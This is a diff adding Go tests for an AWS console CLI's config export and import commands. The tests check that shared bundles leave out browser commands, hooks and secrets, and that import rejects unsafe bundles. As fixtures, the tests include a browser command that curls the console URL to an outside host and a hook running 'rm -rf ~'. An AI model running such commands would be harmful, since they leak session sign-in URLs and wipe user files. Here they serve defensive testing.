@@ -0,0 +1,158 @@
+package cmd
+
+import (
+	"bytes"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+
+	"github.com/eculver/aws-console/pkg/config"
+)
+
+func TestConfigExportImport(t *testing.T) {
+	t.Parallel()
+
+	dir := t.TempDir()
+	source := filepath.Join(dir, "team", "config.yaml")
+	if err := os.MkdirAll(filepath.Dir(source), 0o700); err != nil {
+		t.Fatal(err)
+	}
+	policy := `{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Action":"s3:Get*","Resource":"*"}]}`
+	if err := os.WriteFile(filepath.Join(dir, "team", "s3.json"), []byte(policy), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	teamConfig := `browser: firefox
+duration: 4h
+strict: "true"
+profiles:
+  prod:
+    container: prod
+    region: eu-west-1
+  dev:
+    browser: sh -c 'curl https://example.com/?u=$0' {url}
+groups:
+  all: [prod, dev]
+bookmarks:
+  billing:
+    profile: prod
+    destination: billing/home
+session-policies:
+  s3-read:
+    file: s3.json
+hooks:
+  pre-open: [notify-send opening]
+audit:
+  webhook: https://audit.example.com
+  headers:
+    Authorization: Bearer secret
+`
+	teamConfig += "session-policy: " + filepath.Join(dir, "team", "s3.json") + "\n"
+	if err := os.WriteFile(source, []byte(teamConfig), 0o600); err != nil {
+		t.Fatal(err)
+	}
+
+	bundlePath := filepath.Join(dir, "bundle.yaml")
+	exportStderr := &bytes.Buffer{}
+	if _, err := executeSubcommand(t, runDeps{configFile: source, stderr: exportStderr}, "config", "export", bundlePath); err != nil {
+		t.Fatalf("unexpected export error: %v", err)
+	}
+	if !strings.Contains(exportStderr.String(), "Left out the browser command of dev") {
+		t.Fatalf("expected the browser command to be reported, got %q", exportStderr.String())
+	}
+	data, err := os.ReadFile(bundlePath)
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, unwanted := range []string{"duration", "region", "notify-send", "secret", "s3.json", "curl"} {
+		if strings.Contains(string(data), unwanted) {
+			t.Fatalf("expected %q to be left out of the bundle, got:\n%s", unwanted, data)
+		}
+	}
+	if !strings.HasPrefix(string(data), bundleHeader) || !strings.Contains(string(data), "s3:Get*") {
+		t.Fatalf("expected a bundle with the policy inline, got:\n%s", data)
+	}
+
+	target := filepath.Join(dir, "me", "config.yaml")
+	if err := os.MkdirAll(filepath.Dir(target), 0o700); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(target, []byte("browser: chrome\nbookmarks:\n  billing:\n    profile: prod\n    destination: cost-explorer\n"), 0o600); err != nil {
+		t.Fatal(err)
+	}
+
+	stderr := &bytes.Buffer{}
+	out, err := executeSubcommand(t, runDeps{configFile: target, stderr: stderr}, "config", "import", bundlePath, "--dry-run")
+	if err != nil {
+		t.Fatalf("unexpected import error: %v", err)
+	}
+	if !strings.Contains(out, "Would add settings.strict\n") || !strings.Contains(out, "Would add profiles.prod.container\n") {
+		t.Fatalf("unexpected dry run output %q", out)
+	}
+	if unchanged, _ := os.ReadFile(target); strings.Contains(string(unchanged), "strict") {
+		t.Fatalf("expected a dry run to leave the config file alone, got:\n%s", unchanged)
+	}
+
+	stderr.Reset()
+	out, err = executeSubcommand(t, runDeps{configFile: target, stderr: stderr}, "config", "import", bundlePath)
+	if err != nil {
+		t.Fatalf("unexpected import error: %v", err)
+	}
+	if !strings.Contains(out, "Added groups.all\n") || !strings.Contains(out, "Added session-policies.s3-read\n") {
+		t.Fatalf("unexpected import output %q", out)
+	}
+	for _, want := range []string{"Kept settings.browser, which differs from the bundle's", "Kept bookmarks.billing, which differs from the bundle's"} {
+		if !strings.Contains(stderr.String(), want) {
+			t.Fatalf("expected %q, got %q", want, stderr.String())
+		}
+	}
+	file, err := config.LoadFile(target)
+	if err != nil {
+		t.Fatalf("unexpected error: %v", err)
+	}
+	if file.Settings["browser"] != "chrome" || file.Settings["strict"] != "true" || file.Profiles["prod"]["container"] != "prod" || file.SessionPolicies["s3-read"].Policy == "" || file.Settings["session-policy"] != "s3" || file.SessionPolicies["s3"].Policy == "" {
+		t.Fatalf("unexpected merged config %+v", file)
+	}
+
+	stderr.Reset()
+	if out, err := executeSubcommand(t, runDeps{configFile: target, stderr: stderr}, "config", "import", bundlePath); err != nil || out != "" {
+		t.Fatalf("expected a second import to add nothing, got %q (%v)", out, err)
+	}
+	if !strings.Contains(stderr.String(), "already has every entry of the bundle") {
+		t.Fatalf("unexpected output %q", stderr.String())
+	}
+}
+
+func TestConfigImportRejectsInvalidBundles(t *testing.T) {
+	t.Parallel()
+
+	testCases := []struct {
+		name          string
+		bundle        string
+		wantErrSubstr string
+	}{
+		{name: "not shareable", bundle: "aws-console-bundle: 1\nsettings:\n  credential-policy: ./allow-all\n", wantErrSubstr: `setting "credential-policy" cannot be shared in a bundle`},
+		{name: "invalid value", bundle: "aws-console-bundle: 1\nprofiles:\n  prod:\n    browser: netscape\n", wantErrSubstr: `profile "prod": unknown browser "netscape"`},
+		{name: "browser command", bundle: "aws-console-bundle: 1\nsettings:\n  browser: open -a Arc {url}\n", wantErrSubstr: `browser command "open -a Arc {url}" cannot be shared in a bundle`},
+		{name: "profile browser command", bundle: "aws-console-bundle: 1\nprofiles:\n  prod:\n    browser: \"sh -c 'curl https://example.com/?u=$0' {url}\"\n", wantErrSubstr: `profile "prod": browser command`},
+		{name: "group cycle", bundle: "aws-console-bundle: 1\ngroups:\n  a: [\"@b\"]\n  b: [\"@a\"]\n", wantErrSubstr: "the bundle cannot be added to"},
+		{name: "hooks", bundle: "aws-console-bundle: 1\nhooks:\n  pre-open: [rm -rf ~]\n", wantErrSubstr: "field hooks not found"},
+	}
+
+	for _, tc := range testCases {
+		tc := tc
+		t.Run(tc.name, func(t *testing.T) {
+			t.Parallel()
+
+			target := filepath.Join(t.TempDir(), "config.yaml")
+			deps := runDeps{configFile: target, stdin: strings.NewReader(tc.bundle)}
+			_, err := executeSubcommand(t, deps, "config", "import", "-")
+			if err == nil || !strings.Contains(err.Error(), tc.wantErrSubstr) {
+				t.Fatalf("expected error containing %q, got %v", tc.wantErrSubstr, err)
+			}
+			if _, err := os.Stat(target); !os.IsNotExist(err) {
+				t.Fatalf("expected no config file to be written, got %v", err)
+			}
+		})
+	}
+}